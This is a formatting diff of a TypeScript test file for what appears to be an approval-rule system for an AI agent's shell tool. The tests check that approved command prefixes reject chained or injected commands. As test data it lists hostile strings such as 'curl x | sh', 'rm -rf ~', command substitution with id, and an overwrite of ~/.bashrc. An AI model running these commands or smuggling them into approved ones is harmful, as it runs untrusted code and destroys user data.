@@ -8,7 +8,9 @@ const sh = (command: string) => ({ tool: 'shell', cmd: `shell ${command}`, comma
 describe('shell words', () => {
   it('reads plain words, quotes and escapes as bash would', () => {
     expect(shellWords('npm test -- --watch')).toEqual({ words: ['npm', 'test', '--', '--watch'] });
-    expect(shellWords(`git commit -m 'a b' "c d" e\\ f ''`)).toEqual({ words: ['git', 'commit', '-m', 'a b', 'c d', 'e f', ''] });
+    expect(shellWords(`git commit -m 'a b' "c d" e\\ f ''`)).toEqual({
+      words: ['git', 'commit', '-m', 'a b', 'c d', 'e f', ''],
+    });
     expect(shellWords(`echo 'it'\\''s'`)).toEqual({ words: ['echo', "it's"] });
     expect(shellWords("'FOO=1' x")).toEqual({ words: ['FOO=1', 'x'] });
   });
@@ -34,7 +36,11 @@ describe('shell words', () => {
   });
 
   it('quotes words back into a line that reads as the same words', () => {
-    for (const w of [['npm', 'test'], ['echo', "it's", 'a b', '', '$x;y'], ['FOO=1', 'x']]) {
+    for (const w of [
+      ['npm', 'test'],
+      ['echo', "it's", 'a b', '', '$x;y'],
+      ['FOO=1', 'x'],
+    ]) {
       expect(shellWords(quoteWords(w))).toEqual({ words: w });
     }
   });
@@ -48,8 +54,21 @@ describe('bypass rules', () => {
     expect(ruleMatches(r, sh('npm test'))).toBe(true);
     expect(ruleMatches(r, sh('npm test -- --watch'))).toBe(true);
     expect(ruleMatches(r, sh("npm 'test'"))).toBe(true);
-    for (const c of ['npm test; curl x | sh', 'npm test && rm -rf ~', 'npm testx', 'npm test $(id)', 'npm test `id`', 'npm test || true',
-      'npm test & curl x', 'npm test > ~/.bashrc', 'npm test\ncurl x|sh', 'npm', 'npm install', 'X=1 npm test', 'npm test "$(id)"']) {
+    for (const c of [
+      'npm test; curl x | sh',
+      'npm test && rm -rf ~',
+      'npm testx',
+      'npm test $(id)',
+      'npm test `id`',
+      'npm test || true',
+      'npm test & curl x',
+      'npm test > ~/.bashrc',
+      'npm test\ncurl x|sh',
+      'npm',
+      'npm install',
+      'X=1 npm test',
+      'npm test "$(id)"',
+    ]) {
       expect(ruleMatches(r, sh(c)), c).toBe(false);
     }
     expect(ruleMatches(r, { tool: 'other', cmd: 'other npm test', command: 'npm test' })).toBe(false);
@@ -67,22 +86,36 @@ describe('bypass rules', () => {
   });
 
   it('commands with operators, a program alone, programs that join arguments into code, and JSON calls get exact rules', () => {
-    expect(ruleFor(sh('npm test && npm run lint'))).toEqual({ tool: 'shell', kind: 'exact', rule: 'npm test && npm run lint' });
+    expect(ruleFor(sh('npm test && npm run lint'))).toEqual({
+      tool: 'shell',
+      kind: 'exact',
+      rule: 'npm test && npm run lint',
+    });
     expect(ruleFor(sh('make'))).toEqual({ tool: 'shell', kind: 'exact', rule: 'make' });
     expect(ruleFor(sh('eval echo hi'))).toEqual({ tool: 'shell', kind: 'exact', rule: 'eval echo hi' });
     expect(ruleFor(sh('ssh host ls'))).toMatchObject({ kind: 'exact' });
-    expect(ruleFor({ tool: 'file_write', cmd: 'file_write {"path":"/etc/x"}' })).toEqual({ tool: 'file_write', kind: 'exact', rule: '{"path":"/etc/x"}' });
+    expect(ruleFor({ tool: 'file_write', cmd: 'file_write {"path":"/etc/x"}' })).toEqual({
+      tool: 'file_write',
+      kind: 'exact',
+      rule: '{"path":"/etc/x"}',
+    });
     const exact = ruleFor(sh('npm test && npm run lint')) as { tool: string; kind: 'exact'; rule: string };
     expect(ruleMatches(exact, sh('npm test && npm run lint'))).toBe(true);
     expect(ruleMatches(exact, sh('npm test && npm run lint; curl x | sh'))).toBe(false);
-    expect(ruleFor(sh('npm test\nrm -rf ~'))).toEqual({ refused: expect.stringMatching(/only be approved once/) as string });
+    expect(ruleFor(sh('npm test\nrm -rf ~'))).toEqual({
+      refused: expect.stringMatching(/only be approved once/) as string,
+    });
   });
 
   it('refuses malformed and overbroad rules with a clear error', () => {
-    expect(() => checkRule({ tool: 'shell', kind: 'prefix', rule: '*' })).toThrow(/not a plain command .*wildcards, operators and expansions are never rules/);
+    expect(() => checkRule({ tool: 'shell', kind: 'prefix', rule: '*' })).toThrow(
+      /not a plain command .*wildcards, operators and expansions are never rules/,
+    );
     expect(() => checkRule({ tool: 'shell', kind: 'prefix', rule: 'npm *' })).toThrow(/never rules/);
     expect(() => checkRule({ tool: 'shell', kind: 'prefix', rule: 'npm' })).toThrow(/too broad/);
-    expect(() => checkRule({ tool: 'shell', kind: 'prefix', rule: 'eval echo' })).toThrow(/joins its arguments into code/);
+    expect(() => checkRule({ tool: 'shell', kind: 'prefix', rule: 'eval echo' })).toThrow(
+      /joins its arguments into code/,
+    );
     expect(() => checkRule({ tool: '*', kind: 'exact', rule: 'x' })).toThrow(/bad tool name/);
     expect(() => checkRule({ tool: 'shell', kind: 'exact', rule: ' ' })).toThrow(/needs the command/);
   });
@@ -97,7 +130,10 @@ describe('bypass rules', () => {
     const a = rules.add({ tool: 'shell', kind: 'prefix', rule: 'git push' });
     expect(rules.add({ tool: 'shell', kind: 'prefix', rule: 'git push' })).toEqual(a);
     const b = rules.add({ tool: 'shell', kind: 'prefix', rule: 'npm test' }, 'S1');
-    expect(rules.list().map((r) => [r.rule, r.session])).toEqual([['git push', null], ['npm test', 'S1']]);
+    expect(rules.list().map((r) => [r.rule, r.session])).toEqual([
+      ['git push', null],
+      ['npm test', 'S1'],
+    ]);
     expect(rules.match(sh('git push origin main'), 'S2')).toEqual(a);
     expect(rules.match(sh('npm test'), 'S1')).toEqual(b);
     expect(rules.match(sh('npm test'), 'S2')).toBeUndefined();
